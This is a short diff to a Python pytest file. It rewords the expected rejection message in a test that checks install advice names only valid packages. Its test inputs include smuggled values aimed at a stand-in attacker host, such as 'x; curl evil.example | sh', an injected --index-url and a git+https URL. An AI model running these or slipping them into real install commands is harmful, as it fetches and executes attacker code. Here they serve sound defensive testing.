@@ -231,11 +231,11 @@ def test_logs_warnings_progress_and_tables(capsys: pytest.CaptureFixture[str]) -
     ("name", "said"),
     [
         ("codecvq-ternary", "pip install codecvq-ternary"),
-        ("--index-url=http://evil.example x", "no name of a package"),
-        ("x; curl evil.example | sh", "no name of a package"),
-        ("x\n", "no name of a package"),
-        ("", "no name of a package"),
-        ("git+https://evil.example/x", "no name of a package"),
+        ("--index-url=http://evil.example x", "not a valid package name"),
+        ("x; curl evil.example | sh", "not a valid package name"),
+        ("x\n", "not a valid package name"),
+        ("", "not a valid package name"),
+        ("git+https://evil.example/x", "not a valid package name"),
     ],
 )
 def test_advice_to_install_repeats_names_of_packages_only(name: str, said: str) -> None:
